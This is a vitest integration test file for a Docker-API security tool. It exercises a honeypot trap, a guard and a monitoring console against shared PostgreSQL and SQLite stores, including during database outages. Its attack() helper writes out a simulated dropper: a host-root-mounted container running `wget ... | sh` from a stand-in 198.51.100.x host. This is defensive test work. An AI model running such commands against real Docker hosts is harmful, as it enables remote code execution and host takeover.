// Fleet mode as an operator runs it: the real scan, audit, watch and trap commands write to one PostgreSQL
// (--store and $PORTCULLIS_STORE) and to a SQLite file, two trap "hosts" (sensors) share the database, and the
// real `portcullis serve` shows it all; then PostgreSQL goes down under a recording trap and a restart of it.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../../src/core/store/index.js';
import type { Store } from '../../../src/core/store/store.js';
import { openFleetStore } from '../../../src/core/store/queue/index.js';
import { startGuard } from '../../../src/guard/cli-api.js';
import { startServe } from '../../../src/serve/index.js';
import { dockerAsync, expose, labFromEnv, type Exposure } from '../../lab/index.js';
import { freshDatabase, restartPostgres, startPostgres, stopPostgres, type PgLab } from '../../lab/postgres.js';

const ROOT = new URL('../../../', import.meta.url).pathname;
const lab = labFromEnv();
const dir = mkdtempSync(join(tmpdir(), 'pcl-serve-rt-fleet-'));
const TOKEN = 'fleet-variants-token-0123456789abcdef';
// Every process gets a private data directory, so default outboxes and store files land in the test's tree.
const BASE_ENV = { HOME: dir, XDG_DATA_HOME: join(dir, 'xdg'), PORTCULLIS_STORE: '' };

const children: ChildProcess[] = [];
const exposures: Exposure[] = [];

function spawnCli(args: string[], env: Record<string, string>): ChildProcess {
  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), ...args],
    { cwd: ROOT, env: { ...process.env, ...BASE_ENV, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  return child;
}

function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawnCli(args, env);
    let stdout = '', stderr = '';
    child.stdout!.on('data', (c: Buffer) => { stdout += c.toString(); });
    child.stderr!.on('data', (c: Buffer) => { stderr += c.toString(); });
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** A long-running command, resolved once its stderr matches `ready`. */
function daemon(args: string[], ready: RegExp, env: Record<string, string> = {}): Promise<{ child: ChildProcess; match: RegExpMatchArray }> {
  const child = spawnCli(args, env);
  child.stdout!.resume();
  return new Promise((resolve, reject) => {
    let err = '';
    child.stderr!.on('data', (c: Buffer) => {
      err += c.toString();
      const m = err.match(ready);
      if (m) resolve({ child, match: m });
    });
    child.on('exit', (code) => reject(new Error(`${args[0]} exited ${code}: ${err}`)));
  });
}

function stop(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return Promise.resolve();
  return new Promise((resolve) => { child.once('exit', () => resolve()); child.kill('SIGTERM'); });
}

/** The attack the docker CLI makes against a trap: pull-less run of a dropper in a host-root container. */
async function attack(host: string, marker: string): Promise<void> {
  await dockerAsync({ DOCKER_HOST: `tcp://${host}:2375` }, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'sh', '-c',
    `wget -q -O- http://198.51.100.${marker}/x.sh | sh`]);
}

/** trap.* events of a JSON-lines file, as comparable keys (what the trap recorded locally). */
function fileEvents(path: string): string[] {
  return readFileSync(path, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { eventid: string })
    .filter((e) => e.eventid.startsWith('trap.')).map((e) => JSON.stringify(e)).sort();
}

async function pgRows<T>(url: string, sql: string): Promise<T[]> {
  const c = new pg.Client({ connectionString: url });
  await c.connect();
  try { return (await c.query(sql)).rows as T[]; } finally { await c.end(); }
}

async function pgTrapEvents(url: string): Promise<string[]> {
  return (await pgRows<{ data: string }>(url, "SELECT data FROM events WHERE eventid LIKE 'trap.%'"))
    .map((r) => JSON.stringify(JSON.parse(r.data))).sort();
}

async function until(what: string, check: () => Promise<boolean>, tries = 120): Promise<void> {
  for (let i = 0; i < tries; i++) {
    if (await check()) return;
    await new Promise((r) => setTimeout(r, 500));
  }
  throw new Error(`gave up waiting: ${what}`);
}

/** The PostgreSQL server process of a lab cluster and its backends (to freeze it: a hung, not a stopped, server). */
function clusterPids(lab: PgLab): number[] {
  const main = Number(readFileSync(join(lab.dir, 'data', 'postmaster.pid'), 'utf8').split('\n')[0]);
  const kids = readdirSync('/proc').filter((d) => /^\d+$/.test(d)).filter((d) => {
    try { return Number(readFileSync(`/proc/${d}/stat`, 'utf8').replace(/^.*\) /s, '').split(' ')[1]) === main; } catch { return false; }
  }).map(Number);
  return [main, ...kids];
}

/** A guard set up in `g` (mutual TLS on `address`, one client `rt` with the ci-runner role). */
async function guardDir(g: string, address: string): Promise<{ cfg: string; via: Record<string, string> }> {
  const host = address.split(':')[0] ?? '';
  expect((await cli(['guard', 'init', '--dir', g, '--san', host, '--address', address, '--upstream', lab.dockerHost])).code).toBe(0);
  const cfg = join(g, 'guard.yaml');
  writeFileSync(cfg, readFileSync(cfg, 'utf8').replace('127.0.0.1:9323', `${host}:9323`));
  expect((await cli(['guard', 'cert', 'rt', '--role', 'ci-runner', '-c', cfg])).code).toBe(0);
  return { cfg, via: { DOCKER_HOST: `tcp://${address}`, DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: join(g, 'clients', 'rt') } };
}

let shared: PgLab;

beforeAll(async () => {
  shared = startPostgres('shared', 55432);
  exposures.push(await expose('plain', lab.socketPath, '127.35.0.1', 2375));
});

afterAll(async () => {
  await Promise.all(children.map(stop));
  await Promise.all(exposures.map((e) => e.close()));
  rmSync(dir, { recursive: true, force: true });
});

describe.each(['postgres', 'sqlite'] as const)('every front end writing to the %s store, serve reading it', (kind) => {
  let store = '';
  const sub = join(dir, kind);

  beforeAll(async () => {
    store = kind === 'postgres' ? await freshDatabase(shared, 'pcl_serve_rt_fleet') : join(sub, 'fleet store.db');
  });

  it('stores scan (env), audit, watch and two trap hosts (flag and env), and serve shows them all', { timeout: 240_000 }, async () => {
    const scan = await cli(['scan', '127.35.0.1', '-p', '2375', '--timeout', '2000', '-f', 'json'], { PORTCULLIS_STORE: store });
    expect(scan.code, scan.stderr).toBe(1);
    const audit = await cli(['audit', '-H', lab.dockerHost, '-f', 'json', '--store', store]);
    expect(audit.code, audit.stderr).toBe(0);
    const watch = await cli(['watch', '--once', '-H', lab.dockerHost, '--store', store, '--format', 'json']);
    expect([0, 1], watch.stderr).toContain(watch.code);

    const port = kind === 'postgres' ? 11 : 12;
    const a = await daemon(['trap', '--listen', `127.35.0.${port}:2375`, '--store', store, '--sensor', `host-a-${kind}`, '--events', join(dir, `${kind}-a.jsonl`)],
      /posing as Docker/);
    const b = await daemon(['trap', '--listen', `127.35.1.${port}:2375`, '--sensor', `host-b-${kind}`, '--events', join(dir, `${kind}-b.jsonl`)],
      /posing as Docker/, { PORTCULLIS_STORE: store });
    await attack(`127.35.0.${port}`, '10');
    await attack(`127.35.1.${port}`, '20');
    await Promise.all([stop(a.child), stop(b.child)]);

    writeFileSync(join(dir, `${kind}.token`), `${TOKEN}\n`, { mode: 0o600 });
    const srv = await daemon(['serve', '--listen', '127.0.0.1:0', '--store', store, '--token-file', join(dir, `${kind}.token`)],
      /console at (http:\/\/[^/\s]+)\//);
    const base = srv.match[1] ?? '';
    const api = async <T>(path: string): Promise<T> => {
      const r = await fetch(base + path, { headers: { authorization: `Bearer ${TOKEN}` } });
      expect(r.status, path).toBe(200);
      return await r.json() as T;
    };
    try {
      const runs = await api<{ runs: { tool: string; finishedAt?: string }[] }>('/api/runs');
      expect(new Set(runs.runs.filter((r) => r.finishedAt).map((r) => r.tool))).toEqual(new Set(['scan', 'audit', 'watch']));
      const scans = await api<{ run?: unknown; results: { host: string; port: number; state: string }[] }>('/api/scans');
      expect(scans.results).toContainEqual(expect.objectContaining({ host: '127.35.0.1', port: 2375, state: 'exposed' }));
      const overview = await api<{ exposed: unknown[]; sessions: { sensor: string }[] }>('/api/overview');
      expect(overview.exposed.length).toBe(1);
      const sessions = await api<{ sessions: { session: string; sensor: string; commands: number }[] }>('/api/trap/sessions');
      expect(new Set(sessions.sessions.map((s) => s.sensor))).toEqual(new Set([`host-a-${kind}`, `host-b-${kind}`]));
      for (const s of sessions.sessions) {
        const one = await api<{ events: { sensor?: string }[] }>(`/api/trap/sessions/${encodeURIComponent(s.session)}`);
        expect(one.events.every((e) => e.sensor === s.sensor)).toBe(true);
        const page = await fetch(`${base}/trap/${encodeURIComponent(s.session)}`, { headers: { authorization: `Bearer ${TOKEN}` } });
        expect(await page.text()).toContain(s.sensor);
      }
      // Each host's trap events arrived once each: the store holds exactly what both traps wrote to their files.
      const stored = (await api<{ events: unknown[] }>('/api/events?prefix=trap.&limit=5000')).events.map((e) => JSON.stringify(e)).sort();
      expect(stored).toEqual([...fileEvents(join(dir, `${kind}-a.jsonl`)), ...fileEvents(join(dir, `${kind}-b.jsonl`))].sort());
      for (const path of ['/', '/guard', '/scans', '/audit', '/watch', '/trap']) {
        const r = await fetch(base + path, { headers: { authorization: `Bearer ${TOKEN}` } });
        expect(r.status, path).toBe(200);
      }
    } finally {
      await stop(srv.child);
    }
    if (kind === 'sqlite') expect(existsSync(store)).toBe(true);
  });

  it('the guard command records its decisions in the store named by --store, by its config, or by $PORTCULLIS_STORE', { timeout: 240_000 }, async () => {
    const octet = kind === 'postgres' ? 4 : 5;
    const count = async (): Promise<number> => {
      // Before any front end migrated the database, there is no table yet: nothing recorded.
      if (kind === 'postgres') {
        try { return (await pgRows<{ n: number }>(store, 'SELECT COUNT(*)::int AS n FROM guard_audit'))[0]?.n ?? 0; } catch (err) {
          if ((err as { code?: string }).code === '42P01') return 0;
          throw err;
        }
      }
      const d = new Database(store, { readonly: true });
      try { return (d.prepare('SELECT COUNT(*) AS n FROM guard_audit').get() as { n: number }).n; } finally { d.close(); }
    };
    const before = kind === 'postgres' || existsSync(store) ? await count() : 0;
    const ways: Array<{ args: string[]; env: Record<string, string>; config?: string }> = [
      { args: ['--store', store], env: {} },
      { args: [], env: {}, config: store },
      { args: [], env: { PORTCULLIS_STORE: store } },
    ];
    let seen = before;
    for (const [i, w] of ways.entries()) {
      const { cfg, via } = await guardDir(join(sub, `guard-store-${i}`), `127.35.${octet}.${i + 1}:2376`);
      if (w.config) writeFileSync(cfg, readFileSync(cfg, 'utf8').replace('audit:\n', `audit:\n  store: "${w.config}"\n`));
      const { child } = await daemon(['guard', '-c', cfg, '--no-events', ...w.args], /listening on/, w.env);
      expect((await dockerAsync(via, ['ps'])).code).toBe(0);
      await until(`guard decisions in the ${kind} store (${i})`, async () => (await count()) > seen);
      seen = await count();
      await stop(child);
    }
    // Each decision carries the host it was made on, so a fleet's guards can share the table.
    const hosts = kind === 'postgres' ? (await pgRows<{ host: string | null }>(store, 'SELECT DISTINCT host FROM guard_audit')).map((r) => r.host)
      : (() => { const d = new Database(store, { readonly: true }); try { return (d.prepare('SELECT DISTINCT host FROM guard_audit').all() as { host: string | null }[]).map((r) => r.host); } finally { d.close(); } })();
    expect(hosts).toEqual([hostname()]);
  });
});

describe.each(['postgres', 'sqlite'] as const)('two scanning hosts in one %s store', (kind) => {
  it('compares each host\'s scan with its own previous one, and the console shows every host\'s latest', async () => {
    const location = kind === 'postgres' ? await freshDatabase(shared, 'pcl_serve_rt_hosts') : join(dir, `hosts-${kind}.db`);
    const store = await openStore(location, { ...process.env, ...BASE_ENV, PORTCULLIS_OUTBOX: join(dir, `hosts-${kind}-outbox.db`) } as NodeJS.ProcessEnv);
    const scan = async (id: string, host: string, at: string, results: [string, string][]): Promise<void> => {
      await store.saveRun({ id, tool: 'scan', startedAt: at, host, target: '10.0.0.0/30' });
      await store.saveScanResults(id, results.map(([ip, state]) => ({ host: ip, port: 2375, state, data: {} })));
      await store.finishRun(id, at.replace('00.000Z', '30.000Z'), {});
    };
    // Host A sees 10.0.0.1 exposed both times; host B (another network view) sees 10.0.0.2, then also 10.0.0.3.
    await scan('a-1', 'scanner-a', '2026-11-05T08:00:00.000Z', [['10.0.0.1', 'exposed']]);
    await scan('b-1', 'scanner-b', '2026-11-05T08:10:00.000Z', [['10.0.0.2', 'exposed']]);
    await scan('a-2', 'scanner-a', '2026-11-05T08:20:00.000Z', [['10.0.0.1', 'exposed']]);
    await scan('b-2', 'scanner-b', '2026-11-05T08:30:00.000Z', [['10.0.0.2', 'exposed'], ['10.0.0.3', 'exposed']]);
    expect((await store.previousScanResults('a-2'))?.map((r) => r.host)).toEqual(['10.0.0.1']);
    expect((await store.previousScanResults('b-2'))?.map((r) => r.host)).toEqual(['10.0.0.2']);
    expect(await store.previousScanResults('a-1')).toBeUndefined();
    expect((await store.scanResults('b-2')).map((r) => r.host)).toEqual(['10.0.0.2', '10.0.0.3']);

    // Two watchers' alerts: the console says which host saw each.
    await store.appendEvents(['watcher-a', 'watcher-b'].map((sensor, i) => ({ eventid: 'watch.alert.raised', timestamp: `2026-11-05T09:0${i}:00.000Z`,
      source: 'portcullis', sensor, docker_host: `unix:///run/${sensor}.sock`, rule: 'PCL-MIN-001', severity: 'high', title: `miner seen by ${sensor}` })));

    const srv = await startServe({ store, port: 0 });
    try {
      const watch = await (await fetch(`${srv.url}/watch`)).text();
      for (const w of ['watcher-a', 'watcher-b']) expect(watch).toMatch(new RegExp(`<td class="host">${w}<br><span class="sub">unix:///run/${w}.sock`));
      const v = await (await fetch(`${srv.url}/api/scans`)).json() as {
        run: { id: string }; changes: { host: string; kind: string }[];
        hosts: { run: { id: string; host: string }; previousRun?: { id: string }; changes: { host: string; kind: string }[] }[] };
      expect(v.run.id).toBe('b-2');
      expect(v.changes.filter((c) => c.kind !== 'same')).toEqual([expect.objectContaining({ host: '10.0.0.3', kind: 'new' })]);
      expect(v.hosts.map((h) => [h.run.id, h.previousRun?.id])).toEqual([['b-2', 'b-1'], ['a-2', 'a-1']]);
      expect(v.hosts[1]?.changes.every((c) => c.kind === 'same')).toBe(true);
      const o = await (await fetch(`${srv.url}/api/overview`)).json() as { exposed: { host: string }[] };
      expect(o.exposed.map((r) => r.host).sort()).toEqual(['10.0.0.1', '10.0.0.2', '10.0.0.3']);
      const html = await (await fetch(`${srv.url}/scans`)).text();
      expect(html).toContain('Scanning host scanner-a');
      expect(html).not.toContain('>gone<');
    } finally {
      await srv.close();
      await store.close();
    }
  });
});

describe('PostgreSQL down under a recording trap and a reading console', () => {
  let own: PgLab;
  let url = '';
  beforeAll(async () => {
    own = startPostgres('serve-rt', 55437);
    url = await freshDatabase(own, 'pcl_serve_rt_outage');
  });
  afterAll(() => stopPostgres(own));

  it('queues on local disk across a restart of the trap, delivers once when back; serve answers 503 meanwhile', { timeout: 240_000 }, async () => {
    const outbox = join(dir, 'outage-outbox.db');
    const events = join(dir, 'outage.jsonl');
    const env = { PORTCULLIS_OUTBOX: outbox };
    const trapArgs = ['trap', '--listen', '127.35.2.1:2375', '--store', url, '--sensor', 'outage-host', '--events', events];
    writeFileSync(join(dir, 'outage.token'), TOKEN, { mode: 0o600 });
    const srv = await daemon(['serve', '--listen', '127.0.0.1:0', '--store', url, '--token-file', join(dir, 'outage.token')],
      /console at (http:\/\/[^/\s]+)\//, { PORTCULLIS_OUTBOX: join(dir, 'serve-outbox.db') });
    const base = srv.match[1] ?? '';
    const get = (path: string): Promise<Response> => fetch(base + path, { headers: { authorization: `Bearer ${TOKEN}` } });

    let trap = await daemon(trapArgs, /posing as Docker/, env);
    await attack('127.35.2.1', '31');
    await until('the first attack stored', async () => (await pgTrapEvents(url)).length === fileEvents(events).length);

    stopPostgres(own);
    expect((await get('/api/trap/sessions')).status).toBe(503);
    expect((await get('/trap')).status).toBe(503);
    await attack('127.35.2.1', '32');
    await stop(trap.child);
    // The trap is gone and PostgreSQL still down: what it recorded waits in the outbox file.
    const queued = new Database(outbox, { readonly: true });
    expect((queued.prepare('SELECT COUNT(*) AS n FROM outbox').get() as { n: number }).n).toBeGreaterThan(0);
    queued.close();

    trap = await daemon(trapArgs, /posing as Docker/, env);
    await attack('127.35.2.1', '33');
    restartPostgres(own);
    await until('the outbox delivered', async () => (await pgTrapEvents(url)).length >= fileEvents(events).length);
    await stop(trap.child);

    const local = fileEvents(events);
    const central = await pgTrapEvents(url);
    expect(central).toEqual(local);
    expect(new Set(central).size).toBe(central.length);
    const opened = local.filter((e) => e.includes('"trap.session.opened"')).length;
    expect(opened).toBeGreaterThanOrEqual(2); // one per trap process at least
    const left = new Database(outbox, { readonly: true });
    expect((left.prepare('SELECT COUNT(*) AS n FROM outbox').get() as { n: number }).n).toBe(0);
    left.close();

    // The console, up the whole time, reads again once the database is back.
    const r = await get('/api/trap/sessions');
    expect(r.status).toBe(200);
    expect(((await r.json()) as { sessions: unknown[] }).sessions.length).toBe(opened);
    await stop(srv.child);
  });

  it('keeps a real guard deciding while PostgreSQL is down, across a guard restart, and delivers its audit once', { timeout: 240_000 }, async () => {
    const db = await freshDatabase(own, 'pcl_serve_rt_guard');
    const g = join(dir, 'guard');
    const { cfg, via } = await guardDir(g, '127.35.3.1:2376');
    const env = { ...process.env, ...BASE_ENV, PORTCULLIS_OUTBOX: join(dir, 'guard-outbox.db') };
    const decide = async (): Promise<void> => {
      expect((await dockerAsync(via, ['ps'])).code).toBe(0);
      expect((await dockerAsync(via, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'true'])).stderr).toContain('denied');
    };
    const outboxSize = (): number => {
      const o = new Database(env.PORTCULLIS_OUTBOX, { readonly: true });
      try { return (o.prepare('SELECT COUNT(*) AS n FROM outbox').get() as { n: number }).n; } finally { o.close(); }
    };

    let store: Store = await openStore(db, env);
    let guard = await startGuard({ configPath: cfg, store, sinks: [], log: () => undefined });
    await decide();
    stopPostgres(own);
    await decide(); // decided (and denied) while the database is down
    await guard.close();
    await store.close();
    expect(outboxSize()).toBeGreaterThan(0);

    store = await openStore(db, env); // opens while the database is still down
    guard = await startGuard({ configPath: cfg, store, sinks: [], log: () => undefined });
    await decide();
    restartPostgres(own);
    const fileIds = (): Set<string> => new Set(readFileSync(join(g, 'audit.jsonl'), 'utf8').split('\n').filter(Boolean)
      .map((l) => (JSON.parse(l) as { requestId: string }).requestId));
    await until('the guard outbox delivered', async () => outboxSize() === 0
      && (await pgRows<{ n: number }>(db, 'SELECT COUNT(DISTINCT request_id)::int AS n FROM guard_audit'))[0]?.n === fileIds().size);
    await guard.close();
    await store.close();

    const rows = await pgRows<Record<string, unknown>>(db, 'SELECT time, request_id, subject, method, path, verdict, rule_id, status FROM guard_audit');
    expect(new Set(rows.map((r) => JSON.stringify(r))).size).toBe(rows.length); // nothing twice
    expect(new Set(rows.map((r) => r['request_id']))).toEqual(fileIds()); // nothing lost
    expect(rows.filter((r) => r['verdict'] === 'deny').length).toBeGreaterThanOrEqual(3);
  });

  it('keeps the guard deciding when PostgreSQL hangs (a frozen server, no reset), and delivers once it answers', { timeout: 240_000 }, async () => {
    const db = await freshDatabase(own, 'pcl_serve_rt_hang');
    const g = join(dir, 'guard-hang');
    const { cfg, via } = await guardDir(g, '127.35.3.2:2376');
    const outbox = join(dir, 'hang-outbox.db');
    const store = await openFleetStore(db, { ...process.env, ...BASE_ENV, PORTCULLIS_OUTBOX: outbox } as NodeJS.ProcessEnv, { queryTimeoutMs: 1500 });
    const guard = await startGuard({ configPath: cfg, store, sinks: [], log: () => undefined });
    const names: string[] = [];
    // An allowed create is a write: its audit record must be durable before the guard forwards it.
    const decide = async (): Promise<void> => {
      const name = `pcl-serve-rt-hang-${process.pid}-${names.length}`;
      names.push(name);
      const created = await dockerAsync(via, ['create', '--name', name, '--network', 'none', '--memory', '64m', '--cpus', '0.5', '--pids-limit', '64', 'alpine:latest', 'true']);
      expect(created.code, created.stderr).toBe(0);
      expect((await dockerAsync(via, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'true'])).stderr).toContain('denied');
    };
    try {
      await decide(); // the pool now holds open connections to the server
      const pids = clusterPids(own);
      for (const pid of pids) process.kill(pid, 'SIGSTOP');
      try {
        await decide(); // answered although the server never replies
        await decide();
        expect(store.pending()).toBeGreaterThan(0);
      } finally {
        for (const pid of pids) process.kill(pid, 'SIGCONT');
      }
    } finally {
      await dockerAsync({ DOCKER_HOST: lab.dockerHost }, ['rm', '-f', ...names]);
    }
    const fileIds = (): Set<string> => new Set(readFileSync(join(g, 'audit.jsonl'), 'utf8').split('\n').filter(Boolean)
      .map((l) => (JSON.parse(l) as { requestId: string }).requestId));
    await until('the hung writes delivered', async () => { await store.drain(); return store.pending() === 0; });
    await guard.close();
    await store.close();
    const rows = await pgRows<Record<string, unknown>>(db, 'SELECT time, request_id, subject, method, path, verdict, rule_id, status FROM guard_audit');
    expect(new Set(rows.map((r) => JSON.stringify(r))).size).toBe(rows.length);
    expect(new Set(rows.map((r) => r['request_id']))).toEqual(fileIds());
    expect(rows.filter((r) => r['verdict'] === 'deny').length).toBeGreaterThanOrEqual(3);
  });
});
